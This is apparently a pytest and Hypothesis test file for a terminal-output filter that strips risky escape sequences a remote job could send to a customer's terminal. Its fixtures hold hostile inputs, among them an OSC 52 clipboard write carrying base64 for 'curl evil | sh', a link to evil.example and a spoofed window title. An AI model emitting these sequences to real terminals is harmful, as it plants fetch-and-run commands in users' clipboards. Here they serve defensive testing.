"""What a job can do to its customer's terminal."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deepgrid.client.tunnel.terminal_filter import TerminalFilter

DROPPED = {
    "title": b"\x1b]0;root@laptop\x07",
    "clipboard": b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\",
    "notification": b"\x1b]9;you won\x07",
    "hyperlink": b"\x1b]8;;https://evil.example\x1b\\",
    "device string": b"\x1bP+q544e\x1b\\",
    "privacy message": b"\x1b^text\x1b\\",
    "program command": b"\x1b_Gf=100;AAAA\x1b\\",
    "one character": "\x9d0;title\x9c".encode(),
    "escape inside": b"\x1b]0;a\x1b[31mb\x1b\\",
}
KEPT = (b"\x1b[31mred\x1b[0m", b"\x1b[2J\x1b[H", b"\x1b[?1049h", "ä 日本 Â ".encode(), b"\x1b(B", b"\r\n\t\x08\x07")


@pytest.mark.parametrize("name", DROPPED)
def test_control_strings_are_dropped_wherever_they_are_cut(name: str) -> None:
    text = b"before" + DROPPED[name] + b"after"
    for place in range(len(text) + 1):
        shown = TerminalFilter()
        assert shown.feed(text[:place]) + shown.feed(text[place:]) == b"beforeafter", place


@pytest.mark.parametrize("text", KEPT)
def test_what_programs_need_passes(text: bytes) -> None:
    assert TerminalFilter().feed(text) == text


@given(st.lists(st.binary(max_size=12)))
def test_no_bytes_let_a_control_string_through(pieces: list[bytes]) -> None:
    shown = TerminalFilter()
    seen = b"".join(shown.feed(piece) for piece in pieces)
    assert not any(b"\x1b" + bytes([start]) in seen for start in b"]P_^X")
    assert not any(bytes([0xC2, start]) in seen for start in b"\x9d\x90\x9f\x9e\x98")
